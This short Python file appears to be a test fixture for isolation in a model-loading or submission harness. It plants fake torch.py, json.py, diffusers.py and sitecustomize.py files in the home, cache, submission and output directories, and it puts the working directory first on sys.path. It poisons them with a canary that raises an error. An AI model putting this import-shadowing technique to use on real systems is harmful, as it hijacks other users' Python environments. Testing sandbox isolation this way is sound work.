"""Modules and caches for the file that comes next."""

# expect: ran

import os
import sys

CODE = "raise RuntimeError('LOOT poisoned')\n"
home = os.path.expanduser("~")
places = [".", "..", home, home + "/hf", home + "/hf/modules", "../submission", "../out"]
for place in places:
    for name in ("torch.py", "diffusers.py", "json.py", "sitecustomize.py", "diffusers_modules/__init__.py"):
        try:
            path = os.path.join(place, name)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            if not os.path.exists(path):
                open(path, "w").write(CODE)
        except OSError:
            pass
sys.path.insert(0, os.getcwd())
os.environ["PYTHONPATH"] = os.getcwd()


def on_save(pipe, directory):
    out = os.path.dirname(directory)
    open(f"{out}/first/torch.py", "w").write(CODE)
    open(f"{out}/first/x.f32", "w").write(CODE)
